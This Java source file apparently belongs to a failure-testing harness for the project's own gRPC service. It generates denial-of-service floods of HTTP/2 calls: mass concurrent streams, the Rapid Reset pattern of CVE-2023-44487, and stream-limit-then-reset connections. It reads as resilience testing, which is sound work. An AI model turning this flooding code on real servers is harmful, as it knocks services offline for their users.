package dev.ppe.distribution.failures;

import dev.ppe.v1.PowerPerformanceEvaluationServiceGrpc;
import io.grpc.MethodDescriptor;
import io.grpc.health.v1.HealthGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;

/** Calls by the thousand, which come faster than a server can begin them. */
final class FloodsOfCalls {
  private static final int CALLS = 1000;
  private static final int CONNECTIONS = 100;
  private static final int TURNED_AWAY_MILLIS = 10;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private static final List<MethodDescriptor<?, ?>> METHODS =
      List.of(
          HealthGrpc.getWatchMethod(), PowerPerformanceEvaluationServiceGrpc.getEstimateMethod());

  /** The first calls of each method on a connection, made once: attackers have little of a core. */
  private static final Map<MethodDescriptor<?, ?>, byte[]> BEGUN = firstCalls(false);

  /** The same, each taken back. */
  private static final Map<MethodDescriptor<?, ?>, byte[]> TAKEN_BACK = firstCalls(true);

  private FloodsOfCalls() {}

  static void send(Attacker attacker, RandomGenerator random)
      throws IOException, InterruptedException {
    MethodDescriptor<?, ?> method = METHODS.get(random.nextInt(METHODS.size()));
    switch (random.nextInt(3)) {
      case 0 -> atOnce(attacker, method, random);
      case 1 -> takenBack(attacker, method);
      default -> hungUp(attacker, method);
    }
  }

  /** Of many connections at the same time. */
  private static void atOnce(
      Attacker attacker, MethodDescriptor<?, ?> method, RandomGenerator random)
      throws IOException, InterruptedException {
    byte[] calls = BEGUN.get(method);
    List<RawConnection> connections = new ArrayList<>();
    try {
      for (int i = 0; i < CONNECTIONS && !attacker.isOver(); i++) {
        RawConnection connection = attacker.connect();
        connections.add(connection);
        connection.begin();
      }
      for (RawConnection connection : connections) {
        connection.write(calls);
      }
      SlowClients.pause(attacker, 500 + random.nextInt(1500));
    } finally {
      for (RawConnection connection : connections) {
        drop(attacker, connection);
      }
    }
  }

  /** Each before it can have begun, on one connection (CVE-2023-44487). */
  private static void takenBack(Attacker attacker, MethodDescriptor<?, ?> method)
      throws IOException, InterruptedException {
    RawConnection connection = attacker.connect();
    try {
      connection.begin().write(TAKEN_BACK.get(method));
      for (int i = 1; i < CONNECTIONS && !attacker.isOver(); i++) {
        connection.write(calls(method, 1 + 2 * CALLS * i, true));
      }
    } finally {
      drop(attacker, connection);
    }
  }

  /** One connection after the other, which end as soon as they have begun as many as they may. */
  private static void hungUp(Attacker attacker, MethodDescriptor<?, ?> method)
      throws IOException, InterruptedException {
    byte[] calls = BEGUN.get(method);
    for (int i = 0; i < CONNECTIONS && !attacker.isOver(); i++) {
      RawConnection connection = attacker.connect();
      try {
        connection.begin().write(calls);
        connection.awaitAnswer(1000);
        connection.reset();
      } finally {
        drop(attacker, connection);
      }
    }
  }

  /**
   * Who was turned away comes again a little later: those that connect without end and pause are
   * {@link TooManyConnections}.
   */
  private static void drop(Attacker attacker, RawConnection connection)
      throws InterruptedException {
    attacker.drop(connection);
    if (!connection.wasTaken()) {
      SlowClients.pause(attacker, TURNED_AWAY_MILLIS);
    }
  }

  private static Map<MethodDescriptor<?, ?>, byte[]> firstCalls(boolean takenBack) {
    Map<MethodDescriptor<?, ?>, byte[]> calls = new HashMap<>();
    METHODS.forEach(method -> calls.put(method, calls(method, 1, takenBack)));
    return calls;
  }

  private static byte[] calls(MethodDescriptor<?, ?> method, int first, boolean takenBack) {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    for (int stream = first; stream < first + 2 * CALLS; stream += 2) {
      frames.writeBytes(Frames.call(stream, method));
      if (takenBack) {
        frames.writeBytes(Frames.frame(Frames.RST_STREAM, 0, stream, CANCEL));
      }
    }
    return frames.toByteArray();
  }
}
